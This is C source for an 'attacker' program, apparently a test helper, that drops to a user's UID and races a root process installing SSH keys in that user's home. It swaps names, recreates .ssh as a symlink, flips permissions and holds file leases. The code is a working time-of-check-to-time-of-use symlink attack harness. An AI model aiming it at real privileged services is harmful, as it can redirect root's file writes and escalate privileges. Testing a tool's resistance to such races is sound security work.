// A user who is to get keys, and who wants root to put them elsewhere.
//
//   attacker UID HOME watch FROM TO        waits for a sign of root, then does it once
//   attacker UID HOME exchange A B         swaps two names in the home, over and over
//   attacker UID HOME recreate TARGET      .ssh: nothing, a folder, nothing, a link
//   attacker UID HOME chmod NAME           opens a folder to everybody, and shuts it
//   attacker UID HOME lease NAME           holds a lease on a file
//
// All names are in the home, which it has had open from the start.

#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static int home;

static void say_ready(void) {
  if (write(STDOUT_FILENO, "ready\n", 6) != 6) err(1, "write");
}

static void watch(const char *path, char *const names[]) {
  char above[4096], events[4096];
  int fd = inotify_init1(0);
  unsigned mask = IN_CREATE | IN_ATTRIB | IN_MOVED_TO | IN_MOVED_FROM | IN_DELETE;
  snprintf(above, sizeof above, "%s/..", path);
  inotify_add_watch(fd, ".ssh", mask | IN_OPEN);
  if (fd < 0 || inotify_add_watch(fd, above, mask) < 0 || inotify_add_watch(fd, path, mask) < 0)
    err(1, "inotify");
  say_ready();
  if (read(fd, events, sizeof events) < 0) err(1, "read");
  // With two names, the first goes aside and the second takes its place.
  renameat(home, ".ssh", home, names[0]);
  renameat(home, names[1], home, ".ssh");
  for (;;) pause();
}

int main(int argc, char *argv[]) {
  if (argc < 5) errx(64, "usage: attacker UID HOME MODE NAME...");
  uid_t uid = (uid_t)atoi(argv[1]);
  const char *mode = argv[3], *a = argv[4], *b = argc > 5 ? argv[5] : "";
  if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) err(1, "setresuid");
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  if ((home = open(argv[2], O_RDONLY | O_DIRECTORY)) < 0) err(1, "%s", argv[2]);
  if (fchdir(home)) err(1, "fchdir");
  if (!strcmp(mode, "watch")) watch(argv[2], argv + 4);
  if (!strcmp(mode, "lease")) {
    int fd = open(a, O_RDWR);
    signal(SIGIO, SIG_IGN);
    if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK)) err(1, "lease");
    say_ready();
    for (;;) pause();
  }
  say_ready();
  if (!strcmp(mode, "exchange"))
    for (;;) renameat2(home, a, home, b, RENAME_EXCHANGE);
  if (!strcmp(mode, "chmod"))
    for (;;) {
      fchmodat(home, a, 0777, 0);
      fchmodat(home, a, 0700, 0);
    }
  if (!strcmp(mode, "recreate"))
    for (;;) {
      mkdirat(home, ".ssh", 0700);
      unlinkat(home, ".ssh", AT_REMOVEDIR);
      symlinkat(a, home, ".ssh");
      unlinkat(home, ".ssh", 0);
    }
  errx(64, "no such mode: %s", mode);
}
